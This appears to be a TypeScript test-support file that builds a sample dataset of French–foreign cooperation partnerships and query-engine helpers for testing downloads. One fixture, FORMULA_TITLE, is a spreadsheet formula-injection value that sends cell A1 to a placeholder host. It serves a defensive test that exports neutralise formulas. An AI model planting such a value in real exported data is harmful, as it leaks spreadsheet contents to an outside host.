import type { Dataset, Partnership } from "../model";
import { type Filters, filtersSchema, parseParams } from "../query/params";
import { buildQueryIndex } from "../query/build-index";
import { QueryEngine } from "../query/engine";
import { MemoryRecords, type RecordSource } from "../query/records";
import { makeFunding, makePartnership } from "../test-support/factories";

/** A title a spreadsheet would run as a formula: every download must write it as text. */
export const FORMULA_TITLE = '=HYPERLINK("https://exemple.invalid/?q="&A1;"Cliquer ici")';

/**
 * A small dataset for the downloads' tests: a real fiche with funding (cents, an Oudin amount, a
 * year missing), two authorities (one unresolved) and two partners; a generated one whose title is
 * a formula; one with a subtitle line, a ";" and quotes; then `extra` plain generated ones, to
 * cross batch boundaries.
 */
export function testDataset(extra = 0, demo = true): Dataset {
  const partnerships: Partnership[] = [
    makePartnership({
      id: "15909",
      title: "Dijon – Chefchaouen",
      startYear: 2019,
      endDate: "2021-12-31",
      status: "completed",
      otherThemes: [{ theme: "Culture", subTheme: "Patrimoine", subSubTheme: null, priority: 1 }],
      frenchAuthorities: [
        { name: "Dijon", code: "21231", kind: "commune", departement: "21", region: "27" },
        { name: "Association X", code: null, kind: null, departement: null, region: null },
      ],
      foreignPartners: [
        { name: "Municipalité de Chefchaouen", country: "MA", countryName: "Maroc" },
        { name: "Province inconnue", country: null, countryName: "Atlantide" },
      ],
      funding: [
        makeFunding({ amount: 20_000.5, year: 2019 }),
        makeFunding({ financer: "Dijon", category: "french-authority", amount: 28_651.5, oudinAmount: 1_500, year: null }),
      ],
      source: { kind: "atlas-fiche", real: true, file: "fiche.txt", url: "https://exemple.invalid/fiche/15909", atlasId: 15909 },
    }),
    makePartnership({ id: "g1", title: FORMULA_TITLE, startYear: 2021, source: { kind: "demo", real: false, file: null, url: null, atlasId: null } }),
    makePartnership({
      id: "g2",
      title: 'Eau; assainissement et "hygiène"\nSous-titre',
      startYear: 2015,
      theme: null,
      status: null,
      foreignPartners: [{ name: "Kayes", country: "ML", countryName: "Mali" }],
      funding: [makeFunding({ amount: 18_000, year: 2020 })],
      source: { kind: "demo", real: false, file: null, url: null, atlasId: null },
    }),
  ];
  for (let index = 0; index < extra; index += 1) {
    partnerships.push(
      makePartnership({
        id: `x${index}`,
        title: `Partenariat ${index}`,
        startYear: 2000 + (index % 20),
        funding: index % 2 === 0 ? [makeFunding({ amount: index })] : [],
        source: { kind: "demo", real: false, file: null, url: null, atlasId: null },
      }),
    );
  }
  return {
    format: "atlas-cooperation/dataset@1",
    meta: { demo: demo ? { seed: 7, scale: 0.01, referenceYear: 2026 } : null, description: "Jeu de test", updatedAt: "2026-11-30" },
    partnerships,
  };
}

export function testEngine(dataset = testDataset()): QueryEngine {
  return QueryEngine.fromDataset(dataset, "test-version");
}

/** An engine whose record reads fail from position `failAt` on (a dataset file changed under the server). */
export function failingEngine(dataset: Dataset, failAt: number, error: () => Error): QueryEngine {
  const memory = new MemoryRecords(dataset.partnerships);
  const check = (to: number) => {
    if (to > failAt) throw error();
  };
  const records: RecordSource = {
    get(position) {
      check(position + 1);
      return memory.get(position);
    },
    range(from, to) {
      check(to);
      return memory.range(from, to);
    },
    jsonRange(from, to) {
      check(to);
      return memory.jsonRange(from, to);
    },
  };
  return new QueryEngine(buildQueryIndex(dataset), records, "failing");
}

/** The filters of a query string, as the routes parse them. */
export function filtersOf(query: string): Filters {
  const parsed = parseParams(filtersSchema, new URLSearchParams(query));
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.value;
}
